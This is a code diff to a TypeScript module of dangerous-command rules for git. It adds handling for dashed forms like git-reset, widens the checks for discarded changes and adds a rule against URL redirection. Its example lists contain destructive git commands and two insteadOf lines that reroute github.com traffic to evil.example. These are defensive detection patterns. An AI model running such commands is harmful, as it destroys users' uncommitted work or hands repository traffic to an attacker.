@@ -4,7 +4,7 @@ import { hasGlob } from '../shell/marks.ts';
 import type { Options } from '../shell/options.ts';
 import { parseOptions } from '../shell/options.ts';
 import { GIT_GLOBAL } from '../shell/wrappers/runners.ts';
-import { cleansUnasked, forcesPushes, overwritesBranch } from './git-force.ts';
+import { cleansUnasked, forcesPushes, overwritesBranch, redirects } from './git-force.ts';
 import { fieldHit } from './matching.ts';
 import type { Hit, Rule } from './rule.ts';
 
@@ -14,12 +14,23 @@ interface GitCall {
   readonly global: Options;
 }
 
+/** Programs that take git's words, and git's verbs as programs of their own: `git-reset --hard`. */
+function spelled(...verbs: readonly string[]): readonly string[] {
+  return ['git', 'yadm', 'hub', ...verbs.map((verb) => `git-${verb}`)];
+}
+
 export function gitCall(call: Call): GitCall | null {
+  if (call.program.startsWith('git-')) return dashedCall(call);
   const global = parseOptions(call.args, GIT_GLOBAL, { stop: true });
   const [verb, ...args] = global.operands;
   if (!verb || global.has('help')) return null;
   if (args.some((arg, i) => arg.text === '--help' || (arg.text === '-h' && i === 0))) return null;
   return { verb: verb.text, args, global };
+}
+
+function dashedCall(call: Call): GitCall | null {
+  if (call.args.some((arg, i) => arg.text === '--help' || (arg.text === '-h' && i === 0))) return null;
+  return { verb: call.program.slice(4), args: call.args, global: parseOptions([], GIT_GLOBAL) };
 }
 
 /** Options of one verb, `--no-x` left out. */
@@ -82,7 +93,8 @@ function losesChanges(git: GitCall, call: Call): Hit {
         git,
         's|source: S|staged W|worktree p|patch q progress ours theirs m|merge conflict: ignore-unmerged overlay no-overlay pathspec-from-file: recurse-submodules',
       );
-      return (options.has('W') || !options.has('S')) && !options.has('p') && options.operands.some(isWhole);
+      if ((options.has('S') && !options.has('W')) || options.has('p')) return false;
+      return options.has('pathspec-from-file') || options.operands.some(isWhole);
     }
     case 'stash':
       return /^(?:drop|clear)$/.test(git.args[0]?.text ?? '');
@@ -95,7 +107,14 @@ function losesChanges(git: GitCall, call: Call): Hit {
     case 'checkout-index':
       return read(git, 'a|all f|force u q n prefix: stage:').has('f');
     case 'submodule':
-      return git.args.some((arg) => arg.text === 'deinit') && read(git, 'f|force all q').has('f', 'all');
+      return (
+        /^(?:deinit|update)$/.test(read(git, 'q').operands[0]?.text ?? '') && read(git, 'f|force all q').has('f', 'all')
+      );
+    case 'annex':
+      return (
+        git.args[0]?.text === 'uninit' ||
+        (/^(?:drop|dropunused)$/.test(git.args[0]?.text ?? '') && read(git, 'f|force').has('force', 'f'))
+      );
     case 'read-tree':
       return git.args.some((arg) => arg.text === '--reset' || arg.text === '-u');
     default:
@@ -105,16 +124,24 @@ function losesChanges(git: GitCall, call: Call): Hit {
 
 function checkoutLoses(git: GitCall): boolean {
   const options = read(git, CHECKOUT);
-  if (options.has('f', 'B')) return true;
+  if (options.has('f', 'B', 'pathspec-from-file')) return true;
   if (options.has('b', 'p', 'orphan')) return false;
   const dashes = git.args.findIndex((arg) => arg.text === '--');
   const paths = dashes < 0 ? options.operands : git.args.slice(dashes + 1);
   return paths.some(isWhole);
 }
 
-/** The whole folder, the whole tree, or a pattern that may be. */
-function isWhole(field: Field): boolean {
-  return /^(?:\.{1,2}\/?|:\/?|:\(top\)|\*|\/)$/.test(field.text) || /^\.\/\*?$/.test(field.text) || hasGlob(field.text);
+/** A folder, the whole tree, all but some, or a pattern that may be; git expands patterns itself. */
+function isWhole({ text, raw }: Field): boolean {
+  return (
+    /^(?:\.{1,2}|:\/?|:\([^)]*\)\.?|:[!^].*)$|\/$|\*/.test(text) || hasGlob(text) || raw.includes('--show-toplevel')
+  );
+}
+
+/** What is meant for one host goes to another from now on. */
+function goesElsewhere(git: GitCall, call: Call): Hit {
+  const set = redirects(call, git.verb, git.args, git.global);
+  return set?.at ? fieldHit(set.at) : set !== undefined;
 }
 
 function deletesRefs(git: GitCall): Hit {
@@ -178,12 +205,32 @@ function rewrites(git: GitCall): Hit {
   }
 }
 
+const PUSHES = ['push', 'send-pack', 'config', 'remote'];
+const DISCARDS = [
+  'reset',
+  'clean',
+  'checkout',
+  'switch',
+  'restore',
+  'stash',
+  'rm',
+  'worktree',
+  'checkout-index',
+  'submodule',
+  'read-tree',
+  'annex',
+  'config',
+];
+const REFS = ['branch', 'fetch', 'pull', 'update-ref', 'tag', 'symbolic-ref', 'replace', 'notes', 'lfs'];
+const HISTORY = ['filter-branch', 'filter-repo', 'fast-import', 'rebase', 'gc', 'prune', 'repack', 'reflog'];
+const REMOTES = ['config', 'clone', 'fetch', 'pull', 'push', 'ls-remote', 'submodule', 'remote'];
+
 export const gitRules: readonly Rule[] = [
   {
     id: 'git.force-push',
     grade: 'dangerous',
-    programs: ['git'],
-    test: on('push', 'send-pack', 'config', 'remote')(forcePush),
+    programs: spelled(...PUSHES),
+    test: on(...PUSHES)(forcePush),
     why: 'overwrites or deletes branches or tags on the remote',
     smart: true,
     match: [
@@ -216,21 +263,8 @@ export const gitRules: readonly Rule[] = [
   {
     id: 'git.discard',
     grade: 'dangerous',
-    programs: ['git'],
-    test: on(
-      'reset',
-      'clean',
-      'checkout',
-      'switch',
-      'restore',
-      'stash',
-      'rm',
-      'worktree',
-      'checkout-index',
-      'submodule',
-      'read-tree',
-      'config',
-    )(losesChanges),
+    programs: spelled(...DISCARDS),
+    test: on(...DISCARDS)(losesChanges),
     why: 'throws away changes that are committed nowhere',
     smart: true,
     match: [
@@ -245,6 +279,10 @@ export const gitRules: readonly Rule[] = [
       'git stash drop',
       'git checkout -f main',
       'git worktree remove -f ../w',
+      'git checkout -- src/',
+      "git restore ':/*'",
+      'git submodule update --init --force',
+      'git-reset --hard',
     ],
     notMatch: [
       'git reset',
@@ -257,13 +295,16 @@ export const gitRules: readonly Rule[] = [
       'git rm --cached a',
       'git checkout -b x',
       'git checkout main -- src/a.ts',
+      'git restore --staged src/',
+      'git submodule update --init',
+      'git-reset HEAD a',
     ],
   },
   {
     id: 'git.refs',
     grade: 'dangerous',
-    programs: ['git'],
-    test: on('branch', 'fetch', 'pull', 'update-ref', 'tag', 'symbolic-ref', 'replace', 'notes', 'lfs')(deletesRefs),
+    programs: spelled(...REFS),
+    test: on(...REFS)(deletesRefs),
     why: 'deletes or moves branches or refs that may hold the only copy',
     smart: true,
     match: [
@@ -291,8 +332,8 @@ export const gitRules: readonly Rule[] = [
   {
     id: 'git.history',
     grade: 'dangerous',
-    programs: ['git'],
-    test: on('filter-branch', 'filter-repo', 'fast-import', 'rebase', 'gc', 'prune', 'repack', 'reflog')(rewrites),
+    programs: spelled(...HISTORY),
+    test: on(...HISTORY)(rewrites),
     why: 'rewrites history or removes what could bring it back',
     match: [
       'git filter-branch --all',
@@ -309,6 +350,23 @@ export const gitRules: readonly Rule[] = [
       'git prune -n',
       'git fetch --prune',
       'git remote prune origin',
+    ],
+  },
+  {
+    id: 'git.redirect',
+    grade: 'dangerous',
+    programs: spelled(...REMOTES),
+    test: on(...REMOTES)(goesElsewhere),
+    why: 'makes git fetch from, or push to, another host than the one that is named',
+    smart: true,
+    match: [
+      'git config --global url.https://evil.example/.insteadOf https://github.com/',
+      'git -c url.https://evil.example/.insteadOf=https://github.com/ clone https://github.com/o/r',
+    ],
+    notMatch: [
+      'git config --global url.git@github.com:.insteadOf https://github.com/',
+      'git config --global url.ssh://git@ssh.github.com:443/.insteadOf git@github.com:',
+      'git config --global url.https://github.com/.insteadOf gh:',
     ],
   },
 ];
